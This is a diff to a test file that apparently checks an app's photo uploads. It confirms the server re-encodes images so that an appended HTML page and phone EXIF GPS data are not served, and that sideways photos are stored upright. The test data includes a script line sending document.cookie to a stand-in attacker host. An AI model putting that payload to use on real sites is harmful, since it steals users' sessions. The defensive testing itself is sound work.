@@ -1,6 +1,9 @@
+import { mkdtempSync, rmSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { HeadObjectCommand, ListObjectsV2Command, type S3Client } from '@aws-sdk/client-s3';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { GetObjectCommand, HeadObjectCommand, ListObjectsV2Command, type S3Client } from '@aws-sdk/client-s3';
 import { createProductRepository } from '../../functions/adapters/dynamodb/products';
 import sharp from 'sharp';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
@@ -20,6 +23,7 @@ import type { ModerationImage } from '#shared/moderation';
 const checkListing = handlerOf('checkListing');
 import { localS3Client, S3_LOCAL_CREDENTIALS, type S3Local, startS3Local } from '../../scripts/local/parts/s3';
 import { freePort } from '../../scripts/local/ports';
+import { type LocalServer, startLocalServer } from '../../scripts/local/server';
 import { uniqueUniversity, useTestTable } from '../support/backend';
 import { apiEvent, invoke } from '../support/events';
 import { MemorySearchIndex } from '../support/memory-search-index';
@@ -184,7 +188,7 @@ describe('presigned upload', () => {
 });
 
 describe('publishing with photos', () => {
-  it('copies checked uploads to the product, serves them under /images/products/, and deletes them with it', async () => {
+  it('stores checked uploads as the product\'s photos, served under /images/products/, and deletes them with it', async () => {
     const sub = `photos-${Date.now()}`;
     await verifiedStudent(sub);
     const first = await upload(sub, await photo());
@@ -347,5 +351,125 @@ describe('a photo given by URL', () => {
       expect(res.status, url).toBe(400);
       expect(errorOf(res.body)).toBe('El enlace de la imagen no es válido');
     }
+  });
+});
+
+/**
+ * Issue 25, item 8: a real image with something else in it — a page appended after its end, the
+ * seller's phone's EXIF (a GPS position) — must not be served as it came. What is stored (and
+ * served by the local origin's /images/*) is the server's own encoding of the decoded pixels.
+ */
+describe('a photo with a page appended, or a phone\'s GPS position in it', () => {
+  let server: LocalServer;
+  let webDir: string;
+  const TAIL = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
+  /** EXIF as a phone writes it: where the photo was taken, and a description. */
+  const EXIF = {
+    IFD0: { ImageDescription: 'Casa de Ana, Los Chaguaramos' },
+    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '10/1 29/1 5/1', GPSLongitudeRef: 'W', GPSLongitude: '66/1 53/1 2/1' },
+  };
+  /** The EXIF IFD0 entry pointing at the GPS block (tag 0x8825), in either byte order. */
+  const hasGpsTag = (exif: Buffer | undefined) =>
+    !!exif && (exif.includes(Buffer.from([0x25, 0x88])) || exif.includes(Buffer.from([0x88, 0x25])));
+
+  beforeAll(async () => {
+    webDir = mkdtempSync(join(tmpdir(), 'uploads-origin-'));
+    server = await startLocalServer({
+      port: 0,
+      host: '127.0.0.1',
+      routes: [],
+      authorizer: async () => null,
+      connectSrc: [],
+      webDir,
+      quiet: true,
+      images: { s3, bucket: BUCKET },
+      runtimeConfig: {
+        stage: 'local',
+        apiBaseUrl: '',
+        auth: {
+          userPoolId: 'local_pool',
+          userPoolClientId: 'client',
+          region: 'us-east-1',
+          userPoolEndpoint: 'http://127.0.0.1:9',
+          authFlowType: 'USER_PASSWORD_AUTH',
+        },
+      },
+    });
+  });
+  afterAll(async () => {
+    await server?.close();
+    if (webDir) rmSync(webDir, { recursive: true, force: true });
+  });
+
+  const stored = async (path: string) => {
+    const res = await s3.send(new GetObjectCommand({ Bucket: BUCKET, Key: path.slice(1) }));
+    return { bytes: Buffer.from(await res.Body!.transformToByteArray()), type: res.ContentType };
+  };
+
+  for (const [format, type] of [
+    ['jpeg', 'image/jpeg'],
+    ['png', 'image/png'],
+    ['webp', 'image/webp'],
+  ] as const) {
+    it(`serves a ${format.toUpperCase()} with an HTML tail and EXIF GPS without either (no uploaded byte is served as it came)`, async () => {
+      const sub = `polyglot-${format}-${Date.now()}`;
+      await verifiedStudent(sub);
+      const image = await sharp({ create: { width: 640, height: 480, channels: 3, background: '#c63' } })
+        .withExif(EXIF)
+        .toFormat(format)
+        .toBuffer();
+      expect(hasGpsTag((await sharp(image).metadata()).exif)).toBe(true);
+      const polyglot = Buffer.concat([image, Buffer.from(TAIL)]);
+      const key = await upload(sub, polyglot, type);
+
+      const res = await publish(sub, [key]);
+      expect(res.status).toBe(201);
+      const path = (res.body as { images: string[] }).images[0];
+      const { bytes, type: storedType } = await stored(path);
+      const served = await fetch(`${server.url}${path}`);
+      expect(served.status).toBe(200);
+      expect(served.headers.get('content-type')).toBe(type);
+      const servedBytes = Buffer.from(await served.arrayBuffer());
+      expect(servedBytes.equals(bytes)).toBe(true);
+
+      for (const b of [bytes, servedBytes]) {
+        expect(b.includes('<script')).toBe(false);
+        expect(b.includes('<html')).toBe(false);
+        expect(b.includes('Chaguaramos')).toBe(false);
+        const meta = await sharp(b).metadata();
+        expect(meta.format).toBe(format);
+        expect(meta.exif).toBeUndefined();
+        expect([meta.width, meta.height]).toEqual([640, 480]);
+      }
+      expect(storedType).toBe(type);
+      expect(bytes.equals(polyglot)).toBe(false);
+    });
+  }
+
+  it('stores a phone photo taken sideways upright, without its orientation tag', async () => {
+    const sub = `sideways-${Date.now()}`;
+    await verifiedStudent(sub);
+    // 300×200 as the sensor wrote it, left half red, right half blue; EXIF orientation 6 says
+    // "turn 90° clockwise to view": upright it is 200×300, red on top.
+    const sensor = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#00f' } })
+      .composite([{ input: { create: { width: 150, height: 200, channels: 3, background: '#f00' } }, left: 0, top: 0 }])
+      .jpeg()
+      .withMetadata({ orientation: 6 })
+      .toBuffer();
+    expect((await sharp(sensor).metadata()).orientation).toBe(6);
+    const res = await publish(sub, [await upload(sub, sensor, 'image/jpeg')]);
+    expect(res.status).toBe(201);
+    const product = res.body as { images: string[]; image_variants: Record<string, { width: number; height: number }> };
+    const { bytes } = await stored(product.images[0]);
+    const meta = await sharp(bytes).metadata();
+    expect([meta.width, meta.height, meta.orientation]).toEqual([200, 300, undefined]);
+    expect(product.image_variants[product.images[0]]).toMatchObject({ width: 200, height: 300 });
+    const { data } = await sharp(bytes).raw().toBuffer({ resolveWithObject: true });
+    const pixel = (x: number, y: number) => [...data.subarray((y * 200 + x) * 3, (y * 200 + x) * 3 + 3)];
+    const [top, bottom] = [pixel(100, 40), pixel(100, 260)];
+    expect(top[0]).toBeGreaterThan(200);
+    expect(top[2]).toBeLessThan(60);
+    expect(bottom[2]).toBeGreaterThan(200);
+    expect(bottom[0]).toBeLessThan(60);
   });
 });
